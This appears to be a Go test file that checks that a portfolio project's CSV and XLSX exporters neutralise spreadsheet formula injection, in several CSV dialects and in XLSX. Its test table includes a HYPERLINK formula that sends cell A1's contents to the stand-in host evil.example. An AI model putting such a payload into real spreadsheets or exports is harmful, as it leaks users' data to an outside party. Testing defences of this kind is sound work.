package export_test

import (
	"bytes"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/incubateurs/portfolio/internal/export"
)

// formulaCells are cells a spreadsheet would run as formulas, and what
// every CSV dialect must write instead.
var formulaCells = []struct{ in, want string }{
	{`=HYPERLINK("http://evil.example/?"&A1,"clic")`, `'=HYPERLINK(""http://evil.example/?""&A1,""clic"")`},
	{"+33 1 23", "'+33 1 23"},
	{"-2+3", "'-2+3"},
	{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
	{"\tcmd", "'\tcmd"},
	{"\rcmd", "'\rcmd"},
	{"plain", "plain"},
}

// TestCSVNeutralisesFormulas checks that no CSV the project writes, in any
// dialect, holds a cell a spreadsheet would take for a formula, while
// numbers keep their sign and a lone carriage return inside a cell is
// kept.
func TestCSVNeutralisesFormulas(t *testing.T) {
	cols := []export.Column{{Name: "text", Kind: export.KindString}, {Name: "n", Kind: export.KindInt}, {Name: "x", Kind: export.KindFloat}}
	for _, d := range []export.Dialect{export.RFC4180, export.ExcelFR} {
		var b bytes.Buffer
		w, err := export.NewWriter(&b, export.CSV, export.WriterOptions{Dialect: d})
		if err != nil {
			t.Fatal(err)
		}
		w.WriteHeader(cols)
		for _, c := range formulaCells {
			w.WriteRow(export.Row{Cells: []string{c.in, "-5", "-2.5"}})
		}
		w.WriteRow(export.Row{Cells: []string{"a\rb", "", ""}})
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		sep, dec := ",", "-2.5"
		if d == export.ExcelFR {
			sep, dec = ";", "-2,5"
		}
		lines := strings.Split(strings.TrimPrefix(b.String(), "\uFEFF"), "\r\n")
		for i, c := range formulaCells {
			line := lines[i+1]
			cell := c.want
			if strings.ContainsAny(cell, "\"\r\n") || strings.Contains(cell, sep) {
				cell = `"` + cell + `"`
			}
			if want := cell + sep + "-5" + sep + dec; line != want {
				t.Errorf("%s: %q written as %q, want %q", d, c.in, line, want)
			}
		}
		if got, want := lines[len(formulaCells)+1], "\"a\rb\""+sep+sep; got != want {
			t.Errorf("%s: a lone CR: %q, want %q", d, got, want)
		}
	}
}

// TestXLSXKeepsFormulasAsText checks that an XLSX cell holding formula-like
// text is a plain string: no formula in the file.
func TestXLSXKeepsFormulasAsText(t *testing.T) {
	var b bytes.Buffer
	w, err := export.NewWriter(&b, export.XLSX, export.WriterOptions{})
	if err != nil {
		t.Fatal(err)
	}
	w.WriteHeader([]export.Column{{Name: "text", Kind: export.KindString}})
	for _, c := range formulaCells {
		w.WriteRow(export.Row{Cells: []string{c.in}})
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	sheet := f.GetSheetName(0)
	for i, c := range formulaCells {
		ref, _ := excelize.CoordinatesToCellName(1, i+2)
		if formula, _ := f.GetCellFormula(sheet, ref); formula != "" {
			t.Errorf("%s holds the formula %q", ref, formula)
		}
		if v, _ := f.GetCellValue(sheet, ref); v != c.in {
			t.Errorf("%s = %q, want the text %q", ref, v, c.in)
		}
	}
}
